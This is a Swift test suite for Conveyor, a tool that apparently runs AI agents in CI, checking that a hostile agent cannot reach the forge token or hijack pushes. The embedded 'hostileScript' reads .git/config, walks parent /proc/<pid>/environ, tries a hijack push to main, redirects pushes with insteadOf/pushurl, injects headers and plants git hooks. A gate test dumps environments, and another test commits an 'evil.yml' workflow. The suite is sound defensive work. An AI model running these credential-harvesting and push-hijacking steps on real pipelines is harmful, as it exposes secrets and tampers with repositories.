import ConveyorTestSupport
import Foundation
import Testing

/// `conveyor run` with an agent that hunts for the job's forge token: in the checkout's `.git/config` (which
/// `actions/checkout` left with an `extraheader`), in its parent's `/proc/<pid>/environ`, in its own environment,
/// and by pushing to `main` or rigging `.git/config` to redirect or ride Conveyor's push. Nothing secret may reach
/// the model, the artifacts, the branch, the state, the logs or `main`; Conveyor's push lands where it should.
@Suite(.serialized) struct RunSecretsTests {
    /// Leftovers a runner's environment holds that no agent may see.
    private static let leftovers = [
        "GITHUB_ENV": "/tmp/conveyor-test-env", "GITHUB_PATH": "/tmp/conveyor-test-path",
        "SSH_AUTH_SOCK": "/tmp/conveyor-test-agent.sock", "AWS_SECRET_ACCESS_KEY": "aws-leftover-value",
        "STRIPE_API_KEY": "stripe-leftover-value", "SMTP_PASS": "smtp-leftover-value",
        "ACTIONS_RUNTIME_TOKEN": "runtime-leftover-value",
    ]

    /// The checkout `actions/checkout` leaves with `persist-credentials: true`: `origin` on the forge's HTTP URL
    /// and the token in an `http.<url>.extraheader`.
    static func persistedCheckout(_ world: RunWorld, token: String) throws -> (checkout: URL, origin: String) {
        let checkout = try world.clonedCheckout()
        let port = try #require(world.git.port)
        let origin = "http://127.0.0.1:\(port)/\(world.forge.owner)/\(world.forge.repo).git"
        let header = "AUTHORIZATION: basic " + Data("x-access-token:\(token)".utf8).base64EncodedString()
        try GitCLI.run(["-C", checkout.path, "remote", "set-url", "origin", origin])
        try GitCLI.run(["-C", checkout.path, "config", "http.http://127.0.0.1:\(port)/.extraheader", header])
        return (checkout, origin)
    }

    /// Every form the token could leak in: as is, and inside the basic-auth header.
    static func leaks(_ text: String, token: String) -> Bool {
        text.contains(token) || text.contains(Data("x-access-token:\(token)".utf8).base64EncodedString())
            || text.contains(Data(token.utf8).base64EncodedString())
    }

    /// Every commit's message and patch on every branch of the repository (the state database is checked as SQL).
    static func repositoryText(_ world: RunWorld) throws -> String {
        try GitCLI.run(["-C", world.bare.path, "log", "--all", "-p", "--format=%H %B"])
    }

    /// Rows of `sql` against the state database on the state branch, columns separated by `|`.
    static func state(_ world: RunWorld, _ sql: String) throws -> [String] {
        let database = world.scratch.appending("state-query.sqlite")
        try? FileManager.default.removeItem(at: database)
        let export = try ProcessRunner.check(
            [
                "sh", "-c",
                "git -C \"$1\" cat-file blob conveyor/state:state.sqlite > \"$2\" && sqlite3 \"$2\" \"$3\"", "sh",
                world.bare.path, database.path, sql,
            ])
        return export.stdout.split(separator: "\n").map(String.init)
    }

    /// Everything a hostile agent could have left a value in, besides the repository.
    static func outputsText(_ world: RunWorld, run: ProcessOutput) async throws -> String {
        var text = run.stdout + run.stderr
        for comment in await world.forge.comments(issue: 1) { text += comment.body }
        let files = FileManager.default.enumerator(at: world.scratch.url, includingPropertiesForKeys: nil)
        while let file = files?.nextObject() as? URL {
            let path = file.path
            let kept = path.contains("/conveyor-") || path.hasSuffix("summary.md") || path.hasSuffix("output.txt")
            if kept, let data = FileManager.default.contents(atPath: path) {
                text += String(decoding: data, as: UTF8.self)
            }
        }
        text += try state(world, ".dump").joined(separator: "\n")
        return text
    }

    @Test func aHostileCommandAgentFindsNoTokenMovesNoMainAndCannotRedirectConveyorsPush() async throws {
        try await RunWorld.with { world in
            let token = try #require(world.variables["GITHUB_TOKEN"])
            let (checkout, origin) = try Self.persistedCheckout(world, token: token)
            let decoy = try world.git.createBareRepository("decoy/repo")
            try world.git.seed("decoy/repo", files: ["README.md": "decoy\n"], message: "Decoy")
            let decoyURL = try world.git.url(for: "decoy/repo").absoluteString
            let mainBefore = try GitCLI.run(["-C", world.bare.path, "rev-parse", "main"])
            let decoyBefore = try GitCLI.run(["-C", decoy.path, "for-each-ref"])
            let marker = world.scratch.appending("hook-ran")
            let loot = world.scratch.appending("loot.txt")
            let script = world.scratch.appending("hostile-agent.sh")
            try Self.hostileScript.write(to: script, atomically: true, encoding: .utf8)
            var extra = Self.leftovers
            extra["GITHUB_WORKSPACE"] = checkout.path
            extra["CONVEYOR_AGENT"] = "command"
            extra["CONVEYOR_AGENT_COMMAND"] =
                "sh \(script.path) {work_dir} \(decoyURL) \(marker.path) \(loot.path)"

            let run = try await world.conveyor(["run"], extra)

            #expect(run.status == 0, "stdout: \(run.stdout)\nstderr: \(run.stderr)")
            let found = try String(contentsOf: loot, encoding: .utf8)
            // The probes ran: they read the config, the parent's environ and their own environment.
            #expect(found.contains("[remote \"origin\"]"), "\(found)")
            #expect(found.contains("## /proc/"), "\(found)")
            #expect(found.contains("GITHUB_REPOSITORY="), "\(found)")
            #expect(!Self.leaks(found, token: token), "the agent found the token:\n\(found)")
            for (name, value) in Self.leftovers {
                #expect(!found.contains("\(name)=\(value)"), "the agent saw \(name)")
            }
            #expect(found.contains("push exit 1") || found.contains("push exit 128"), "\(found)")
            #expect(try GitCLI.run(["-C", world.bare.path, "rev-parse", "main"]) == mainBefore, "main moved")
            #expect(try GitCLI.run(["-C", decoy.path, "for-each-ref"]) == decoyBefore, "the push went to the decoy")
            #expect(!FileManager.default.fileExists(atPath: marker.path), "a hook ran")
            let branch = try #require(await world.forge.pulls().first?.head)
            let brief = try GitCLI.run(["-C", world.bare.path, "show", "\(branch):docs/work-items/1/intake/brief.md"])
            #expect(brief.contains("## environment"), "the loot was not published: \(brief)")
            #expect(!Self.leaks(try Self.repositoryText(world), token: token))
            #expect(!Self.leaks(try await Self.outputsText(world, run: run), token: token))
            let config = try String(contentsOf: checkout.appendingPathComponent(".git/config"), encoding: .utf8)
            #expect(!Self.leaks(config, token: token))
            #expect(run.stderr.contains("removed before the agent ran"), "\(run.stderr)")
            #expect(!origin.isEmpty)

            // §5: the withheld names (never values) are logged; the session is recorded; the transcript is kept.
            let logs = try FileManager.default.contentsOfDirectory(atPath: world.scratch.path)
                .filter { $0.hasPrefix("conveyor-") && $0.hasSuffix(".jsonl") }
            let log = try String(contentsOf: world.scratch.appending(try #require(logs.first)), encoding: .utf8)
                .replacingOccurrences(of: "\\/", with: "/")
            let withheld = try #require(log.split(separator: "\n").first { $0.contains("\"agent.environment\"") })
            for name in ["GITHUB_TOKEN", "GITHUB_ENV", "GITHUB_PATH", "SSH_AUTH_SOCK", "AWS_SECRET_ACCESS_KEY"] {
                #expect(withheld.contains(name), "\(withheld)")
            }
            for value in Self.leftovers.values { #expect(!log.contains(value)) }
            #expect(log.contains("\"workspace.credentials\""), "\(log)")
            #expect(run.stderr.contains("Variables withheld from the agent: "), "\(run.stderr)")
            let sessions = try Self.state(world, "SELECT agent, status, log_path FROM agent_sessions")
            #expect(sessions.count == 1, "\(sessions)")
            let transcript = try #require(sessions.first?.split(separator: "|").last.map(String.init))
            #expect(log.contains(transcript))
            #expect(FileManager.default.fileExists(atPath: transcript + "/prompt.md"))
            #expect(try Self.state(world, "SELECT count(*) FROM token_usage") == ["0"])
        }
    }

    @Test func aGateCommandSeesNoCredentialInItsEnvironmentOrItsParents() async throws {
        try await RunWorld.with { world in
            let found = world.scratch.appending("gate-found.txt")
            // `/proc/<pid>/environ` separates entries with NUL; the checks below look for `NAME=value` alike.
            let gate = "env > '\(found.path)'; cat /proc/$PPID/environ >> '\(found.path)'"
            try world.git.seed(
                "\(world.forge.owner)/\(world.forge.repo)",
                files: [
                    ".conveyor/config.yml": "stages:\n  intake:\n    gate: {kind: command, command: \"\(gate)\"}\n"
                ],
                message: "A command gate")
            let checkout = try world.clonedCheckout()
            var extra = Self.leftovers
            extra["ANTHROPIC_API_KEY"] = "anthropic-leftover-value"
            extra["GITHUB_WORKSPACE"] = checkout.path
            let run = try await world.conveyor(["run"], extra)

            #expect(run.status == 0, "stdout: \(run.stdout)\nstderr: \(run.stderr)")
            let text = try String(contentsOf: found, encoding: .utf8)
            #expect(text.contains("PATH="), "\(text)")
            let token = try #require(world.variables["GITHUB_TOKEN"])
            #expect(!Self.leaks(text, token: token), "\(text)")
            for (name, value) in extra where name != "GITHUB_WORKSPACE" {
                #expect(!text.contains("\(name)=\(value)"), "the gate saw \(name)")
            }
        }
    }

    @Test func aShellThatKeepsTheTokenAboveConveyorIsNamed() async throws {
        try await RunWorld.with { world in
            // A workflow step without `exec`: the shell stays conveyor's parent with the token in its environ.
            let binary = try BuiltBinary.url().path
            let kept = try await onOwnThread {
                try ProcessRunner.run(["sh", "-c", "\"$0\" run; exit $?", binary], environment: world.variables)
            }
            #expect(kept.status == 0, "\(kept.stderr)")
            #expect(kept.stderr.contains("Start conveyor with `exec conveyor run`"), "\(kept.stderr)")
            let replaced = try await onOwnThread {
                try ProcessRunner.run(["sh", "-c", "exec \"$0\" run", binary], environment: world.variables)
            }
            #expect(replaced.status == 0, "\(replaced.stderr)")
            #expect(!replaced.stderr.contains("exec conveyor run"), "\(replaced.stderr)")
        }
    }

    @Test func anAgentThatCommitsItselfHasNothingPushed() async throws {
        try await RunWorld.with { world in
            let script = world.scratch.appending("committing-agent.sh")
            let artifacts = ["problem", "personas", "scope", "constraints", "brief", "open-questions"]
                .map {
                    "printf '%s' '\(RunWorld.intakeArtifact($0).replacingOccurrences(of: "'", with: ""))' > \"$out/\($0).md\""
                }
                .joined(separator: "\n")
            try """
            set -eu
            cd "$1"
            out=docs/work-items/1/intake
            mkdir -p "$out" .github/workflows
            \(artifacts)
            echo 'on: push' > .github/workflows/evil.yml
            git add .github/workflows/evil.yml
            git -c user.name=agent -c user.email=agent@invalid commit -q -m 'ride along'
            """.write(to: script, atomically: true, encoding: .utf8)
            let run = try await world.conveyor(
                ["run"], ["CONVEYOR_AGENT": "command", "CONVEYOR_AGENT_COMMAND": "sh \(script.path) {work_dir}"])

            #expect(run.status == 1, "stdout: \(run.stdout)\nstderr: \(run.stderr)")
            #expect(await world.forge.pulls().isEmpty)
            let branches = try GitCLI.run(["-C", world.bare.path, "for-each-ref", "--format=%(refname)", "refs/heads"])
            #expect(branches.split(separator: "\n").sorted() == ["refs/heads/conveyor/state", "refs/heads/main"])
            let comment = try #require(await world.forge.comments(issue: 1).first?.body)
            #expect(comment.contains("moved HEAD or the work branch"), "\(comment)")
        }
    }

    /// The hostile `command` agent: `$1` work tree, `$2` a decoy remote, `$3` a file a hook would create, `$4`
    /// where to keep what it found (outside the work tree, for the test to check the probes ran).
    static let hostileScript = #"""
        set -u
        cd "$1"
        decoy="$2"; marker="$3"; loot="$4"
        out=docs/work-items/1/intake
        mkdir -p "$out"
        {
            echo '## .git/config'; cat .git/config
            echo '## included configs'
            git config --includes --list --show-origin 2>&1
            echo '## environment'; env
            p=$PPID
            while [ "$p" -gt 1 ]; do
                echo "## /proc/$p/environ"
                tr '\000' '\n' < "/proc/$p/environ" 2>&1
                p=$(sed 's/.*) //' "/proc/$p/stat" | cut -d' ' -f2)
            done
            echo '## push to main'
            commit=$(git -c user.name=agent -c user.email=agent@invalid commit-tree 'HEAD^{tree}' -p HEAD -m hijack)
            GIT_TERMINAL_PROMPT=0 GIT_ASKPASS=/bin/false git push origin "$commit:refs/heads/main" 2>&1
            echo "push exit $?"
        } > "$loot" 2>&1
        # Rig Conveyor's own push: redirect it, ride it with a header, hook it.
        real=$(git remote get-url origin)
        git config url."$decoy".insteadOf "$real"
        git config url."$decoy".pushInsteadOf "$real"
        git config remote.origin.pushurl "$decoy"
        git config http.extraheader "X-Hijack: yes"
        mkdir -p .git/hooks
        for hook in pre-push pre-commit post-commit reference-transaction; do
            printf '#!/bin/sh\nenv > "%s"\n' "$marker" > ".git/hooks/$hook"
            chmod +x ".git/hooks/$hook"
        done
        git config core.hooksPath "$PWD/.git/hooks"
        for type in problem personas scope constraints brief open-questions; do
            printf -- '---\ndoc_id: WI-1-%s\ntype: %s\nstatus: draft\nowner_role: pm\nstage: intake\nwork_item: 1\nrelated_issues: [1]\nversion: 1\n---\n# %s\n\n' \
                "$type" "$type" "$type" > "$out/$type.md"
        done
        { echo; echo '```'; cat "$loot"; echo '```'; } >> "$out/brief.md"
        """#
}
